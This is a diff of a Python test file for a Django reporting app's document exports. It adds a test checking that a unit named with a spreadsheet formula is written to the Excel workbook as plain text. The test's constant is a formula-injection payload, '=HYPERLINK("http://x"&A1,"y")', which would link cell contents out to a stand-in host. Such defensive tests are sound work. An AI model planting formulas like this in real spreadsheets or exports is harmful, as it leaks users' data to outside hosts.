@@ -1,3 +1,4 @@
+import datetime as dt
 import io
 
 import docx
@@ -6,7 +7,14 @@ from django.utils import translation
 from django.utils.translation import gettext as _
 from pypdf import PdfReader
 
+from pdms.accounts.scope import system_scope
+from pdms.organizations.services import organization_rename
 from pdms.reporting.exports import summary_docx, summary_filename, summary_pdf, summary_xlsx
+from pdms.reporting.summary import summary_report
+
+from .conftest import AS_OF
+
+HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"y")'
 
 
 def _vi(text):
@@ -35,6 +43,13 @@ def test_the_workbook_lists_the_ranked_units_and_draws_native_charts(term_report
     assert rows == [("X01", "Đảng bộ xã Hà Mòn", 1, 2, 200.0, 1), ("X02", "Đảng bộ xã Ngọc Wang", 2, 1, 50.0, -1)]
     assert [row for row in series.iter_rows(min_row=3, values_only=True)] == [("2020", 0), ("2021", 1), ("2022", 2)]
     assert len(units._charts) == 1 and len(series._charts) == 1
+
+
+def test_a_unit_named_like_a_formula_is_plain_text_in_the_workbook(progress, plan):
+    organization_rename(organization=progress.commune_a, name=HOSTILE_NAME, on=dt.date(2011, 1, 1), actor=None)
+    report = summary_report(system_scope(), plan, progress.district, AS_OF, "term")
+    cell = openpyxl.load_workbook(io.BytesIO(summary_xlsx(report))).worksheets[1]["C3"]
+    assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")
 
 
 def test_the_word_document_is_a_party_report_with_the_figures_and_two_chart_images(term_report):
